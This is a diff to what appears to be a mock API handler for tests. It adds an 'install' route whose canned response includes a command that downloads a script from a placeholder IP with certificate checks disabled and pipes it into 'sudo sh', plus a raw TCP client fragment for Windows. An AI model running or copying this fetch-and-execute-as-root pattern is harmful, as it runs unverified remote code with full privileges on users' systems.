@@ -34,6 +34,14 @@ export function people({ box, method, path, body }: Request): Answer | null {
     if (method === 'GET') return ok({ tokens });
     return method === 'POST' ? ok({ ...tokens[0], ...body, token: '0123456789abcdef'.repeat(2) }) : done;
   }
+  if (noun === 'install') {
+    const shell =
+      "curl -fsSk --pinnedpubkey 'sha256//kQ=' https://192.0.2.2/get/install.sh | sudo sh -s -- --box-hash=ab";
+    return ok({
+      commands: { linux: shell, macos: shell, windows: '$t=[Net.Sockets.TcpClient]::new()' },
+      packages: [],
+    });
+  }
   if (noun !== 'certificate') return null;
   return method === 'DELETE' ? done : ok(certificate(method === 'PUT', nowMs));
 }
